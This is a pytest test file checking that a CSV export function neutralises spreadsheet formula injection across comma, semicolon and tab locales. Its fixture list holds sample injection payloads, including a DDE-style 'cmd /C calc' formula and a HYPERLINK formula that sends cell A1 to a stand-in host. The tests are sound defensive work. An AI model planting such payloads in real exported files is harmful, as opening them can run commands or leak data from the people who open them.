"""Exported CSV tables are safe for the locale that opens them (issue 17): however a spreadsheet splits a
line (',' in English, ';' in Spanish, tabs, line breaks), no cell starts with a formula character."""

from __future__ import annotations

import csv
import io
import re

import pandas as pd
import pytest

from evalpipe.drop import DataDrop
from evalpipe.export import neutralise_cell, write_table

FORMULA = ("=", "+", "-", "@")
TRICKY = [
    '1;=HYPERLINK("http://x.example/?q="&A1;"clic")',
    "motivo, +SUM(1;2)",
    "texto;   @cmd",
    'a;"=1+1"',
    "uno\t=2",
    "línea\n-3+cmd|' /C calc'!A0",
    "fila\r\n=1",
    " =1+1",
    "=1+1",
    "+34",
    "-x",
    "@SUM(A1)",
    "plain text, with a comma; and a semicolon",
]
DROP = DataDrop("test-drop", "synthetic", "2021-02-15", "")


@pytest.fixture(scope="module")
def written(tmp_path_factory):
    table = pd.DataFrame({"reason": TRICKY, "n": range(len(TRICKY)),
                          "change": [-3, 2, -1.5, 0, 4, -7, 1, 0, 0, 0, 0, 0, 0]})
    path = write_table(table, tmp_path_factory.mktemp("t") / "outcome_exclusions.csv", DROP)
    return table, path


def _starts_with_formula(field: str) -> bool:
    """A field a spreadsheet would run: starts (after blanks or a quote) with = + - @, and is not a number."""
    field = field.strip(' \t"')
    return field.startswith(FORMULA) and not re.fullmatch(r"[+-]?\d+(\.\d+)?", field)


@pytest.mark.parametrize("delimiter", [";", ",", "\t"])
def test_a_naive_split_on_either_locale_finds_no_formula(written, delimiter):
    _, path = written
    for line in path.read_text(encoding="utf-8").splitlines():
        for field in line.split(delimiter):
            assert not _starts_with_formula(field), (delimiter, field)


@pytest.mark.parametrize("delimiter", [";", ","])
def test_a_csv_reader_on_either_locale_finds_no_formula(written, delimiter):
    _, path = written
    with path.open(encoding="utf-8", newline="") as handle:
        for row in csv.reader(handle, delimiter=delimiter):
            for field in row:
                assert not _starts_with_formula(field), (delimiter, field)
                for line in field.splitlines():  # a line break inside a quoted cell
                    assert not _starts_with_formula(line), (delimiter, field)


def test_cells_starting_with_a_formula_character_read_back_neutralised(written):
    from evalpipe.export import restore_cell

    _, path = written
    back = pd.read_csv(path, dtype=str, keep_default_na=False)
    for original, read in zip(TRICKY, back["reason"]):
        if original.startswith(FORMULA):
            assert read == "'" + original
        assert restore_cell(read) == original


def test_numbers_stay_numbers(written):
    _, path = written
    back = pd.read_csv(path)
    assert back["change"].tolist() == [-3, 2, -1.5, 0, 4, -7, 1, 0, 0, 0, 0, 0, 0]
    assert back["n"].dtype.kind == "i"
    assert neutralise_cell(-3) == -3 and neutralise_cell(2.5) == 2.5


def test_text_without_formula_is_unchanged():
    for text in ("plain text, with a comma; and a semicolon", "1,046", "a - b", "x;y", "Lima; Cusco"):
        assert neutralise_cell(text) == text


def test_the_spanish_excel_case_of_the_issue():
    cell = '1;=HYPERLINK("http://x.example")'
    out = io.StringIO()
    pd.DataFrame({"reason": [neutralise_cell(cell)]}).to_csv(out, index=False)
    fields = out.getvalue().splitlines()[1].split(";")
    assert fields[0].strip('"') == "1" and fields[1].startswith("'=")


def test_write_table_writes_plain_lf_csv_without_index_into_new_folders(tmp_path):
    table = pd.DataFrame({"name": ["a", "b"], "value": [0.1 + 0.2, 1 / 3], "n": [1, 2]}, index=[7, 8])
    path = write_table(table, tmp_path / "new" / "deeper" / "t.csv", DataDrop("d", "real", "2021-01-01", ""))
    assert path == tmp_path / "new" / "deeper" / "t.csv"
    raw = path.read_bytes()
    assert b"\r" not in raw
    assert raw.decode("utf-8").splitlines() == ["name,value,n,data_origin", "a,0.3,1,real", "b,0.3333333333,2,real"]
    assert list(table.columns) == ["name", "value", "n"]  # the caller's table is not changed
    small = write_table(pd.DataFrame({"v": [1.5e-12, 1234567.891]}), tmp_path / "b.csv", DataDrop("d", "real", "", ""))
    assert small.read_text(encoding="utf-8").splitlines()[1:] == ["1.5e-12,real", "1234567.891,real"]
